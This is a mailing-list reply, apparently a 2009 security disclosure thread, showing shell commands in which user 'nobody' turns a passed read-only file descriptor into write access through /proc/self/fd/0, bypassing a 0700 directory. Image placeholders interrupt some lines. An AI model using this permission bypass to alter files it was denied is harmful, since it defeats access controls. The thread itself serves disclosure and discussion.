[Date Prev][Date Next][Thread Prev][Thread Next][Date Index][Thread Index]

Re: /proc filesystem allows bypassing directory permissions on Linux

> > 0700 mode from the origin, you would be right, and procfs wouldn't allow
> > opening files in that directory too, but if you let others to traverse
> > that directory and open your believed to be secure files from the origin,
> > it's your fault.
> I can do the example with fd passing and 700 directory, but it would
> be lot of C code. Feel free to play, my example was not nearly the
> only way to demonstrate it, and no, it was not racy.

Here is an example that shows the behavior where a passed read-only fd
can become read-write by reopening it through /proc, when file
permissions allow it (but directory permissions do not):$ sudo su
  # mkdir -m 0700 /dir
  # echo "safe" > /dir/file.txt
  # chmod 0666 /dir/file.txt
  # ls-al /dir
  total 12
  drwx---  2 root root 4096 2009-10-29 00:28 .
  drwxr-xr-x 27 root root 4096 2009-10-29 00:28 ..
  -rw-rw-rw-  1 root root    7 2009-10-29 00:43 file.txt
  # cat /dir/file.txt

Now user "nobody" cannot read or write this file:

  # su nobody -c 'cat /dir/file.txt'
  sh: /dir/file.txt: Permission denied
  # su nobody -c 'echo "hacked" > /dir/file.txt'
  sh: /dir/file.txt: Permission denied
  # cat /dir/file.txt

If we provide an open read-only file descriptor (as stdin, fd 0), they
can read it:

  # su nobody -c 'cat <&0' < /dir/file.txtBut they still can't write to this descriptor:

  # su nobody -c'echo "hacked" >&0' < /dir/file.txt
  sh: line0: echo: write error: Bad file descriptor

Unless we re-open the file using the magic link in /proc:

  # su nobody -c 'echo "hacked" >/proc/self/fd/0' < /dir/file.txt
  # cat /dir/file.txt

Again, debatable whether this is a bug, but it's certainlynon-obvious.  There is no other way (that I'm aware) for the "nobody"
user to gain write access to /dir/file.txt, even when given a
read-only fd, without using /proc.